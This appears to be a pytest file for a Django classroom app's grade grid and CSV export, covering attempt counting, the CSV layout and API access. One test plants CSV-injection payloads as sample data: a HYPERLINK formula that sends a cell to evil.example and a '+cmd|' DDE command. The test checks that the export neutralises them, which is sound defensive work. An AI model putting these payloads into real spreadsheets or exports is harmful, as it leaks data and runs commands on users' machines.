"""A class's grades (issue 31): the grid of students x exercises (the counted attempt: best or
latest, among the first N when the exercise says so; attempts, last, late) and its CSV, whose
cells a spreadsheet never reads as a formula."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group, User
from django.test import Client
from django.utils import timezone

from classroom.grades import grades_csv, grid, safe_cell
from classroom.models import Attempt, Exercise
from robotide.models import ApiToken, ClassTeacher

pytestmark = pytest.mark.django_db
DONE, ERROR = Attempt.State.DONE, Attempt.State.ERROR


@pytest.fixture
def school(db):
    people = {n: User.objects.create_user(n) for n in ("alice", "bob", "tina", "tom")}
    people["alice"].first_name, people["alice"].last_name = "Alice", "Araújo"
    people["alice"].save()
    a = Group.objects.create(name="class-a")
    for name in ("alice", "bob", "tina"):  # tina is in her class too: not a student of it
        people[name].groups.add(a)
    ClassTeacher.objects.create(group=a, user=people["tina"])
    b = Group.objects.create(name="class-b")
    ClassTeacher.objects.create(group=b, user=people["tom"])
    return {**people, "a": a, "b": b}


def exercise(school, title, **fields):
    fields = {"group": school["a"], **fields}
    return Exercise.objects.create(
        owner=school["tina"], title=title, world="boxes",
        checks=[{"kind": "no_contact", "points": 2}, {"kind": "ends_within", "seconds": 9}],
        **fields,
    )  # fmt: skip


def attempt(exercise, student, number, score, state=DONE, late=False, minutes=0):
    return Attempt.objects.create(
        exercise=exercise, student=student, number=number, language="python", state=state,
        score=score, max_score=3.0, passed=score == 3.0, late=late,
        created=timezone.now() + timedelta(minutes=minutes),
    )  # fmt: skip


def test_the_grid_counts_best_or_latest_among_the_first_n(school):
    alice, bob = school["alice"], school["bob"]
    best = exercise(school, "best")
    latest = exercise(school, "latest", counts=Exercise.Counts.LATEST)
    first_two = exercise(school, "first two", attempts_allowed=2)
    attempt(best, alice, 1, 1.0)
    top = attempt(best, alice, 2, 3.0, late=True)
    attempt(best, alice, 3, 2.0, minutes=5)
    attempt(best, alice, 4, 0.0, state=ERROR, minutes=6)  # not checked: never counted
    attempt(latest, alice, 1, 3.0)
    last = attempt(latest, alice, 2, 1.0, minutes=1)
    attempt(first_two, bob, 1, 1.0)
    second = attempt(first_two, bob, 2, 2.0)
    attempt(first_two, bob, 3, 3.0)  # beyond the two that count
    attempt(exercise(school, "other class's", group=school["b"]), bob, 1, 3.0)

    table = grid(school["a"])
    assert [s.username for s in table.students] == ["alice", "bob"]
    assert [e.title for e in table.exercises] == ["best", "first two", "latest"]
    cell = table.cell(alice, best)
    assert (cell.score, cell.max_score, cell.attempts, cell.late, cell.passed) == (
        3.0,
        3.0,
        4,
        True,
        True,
    )
    assert cell.attempt_id == top.pk
    assert cell.last == Attempt.objects.filter(exercise=best).latest("created").created
    assert table.cell(alice, latest).attempt_id == last.pk
    assert table.cell(bob, first_two).attempt_id == second.pk
    assert table.cell(bob, first_two).score == 2.0
    nothing = table.cell(bob, best)
    assert (nothing.score, nothing.attempts, nothing.last, nothing.attempt_id) == (
        None,
        0,
        None,
        None,
    )
    assert nothing.max_score == 3.0  # the exercise's points


def test_the_csv_has_a_row_a_student(school):
    e = exercise(school, "Reach the kitchen")
    attempt(e, school["alice"], 1, 2.5)
    rows = list(csv.reader(io.StringIO(grades_csv(school["a"]))))
    assert rows == [
        ["username", "name", "Reach the kitchen"],
        ["alice", "Alice Araújo", "2.5"],
        ["bob", "", ""],
    ]


def test_cells_never_start_a_formula(school):
    """A student named =HYPERLINK(...) or an exercise titled +cmd|... opens in a teacher's
    spreadsheet as text (CSV injection)."""
    bob = school["bob"]
    bob.first_name, bob.last_name = '=HYPERLINK("http://evil.example/?"&A1)', ""
    bob.save()
    for title in ("+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1"):
        exercise(school, title)
    text = grades_csv(school["a"])
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert "'=HYPERLINK(" in text and "'+cmd|" in rows[0][2] + rows[0][3] + rows[0][4]
    assert safe_cell("ok") == "ok" and safe_cell(None) == "" and safe_cell(2.0) == "2.0"


def test_grades_csv_through_the_api(school):
    exercise(school, "=1+1")
    _, token = ApiToken.issue(school["tina"])
    response = Client(HTTP_AUTHORIZATION=f"Bearer {token}").get(
        f"/api/classes/{school['a'].pk}/grades.csv"
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert response.content.decode().splitlines()[0] == "username,name,'=1+1"
    _, token = ApiToken.issue(school["tom"])
    other = Client(HTTP_AUTHORIZATION=f"Bearer {token}")
    assert other.get(f"/api/classes/{school['a'].pk}/grades.csv").status_code == 404
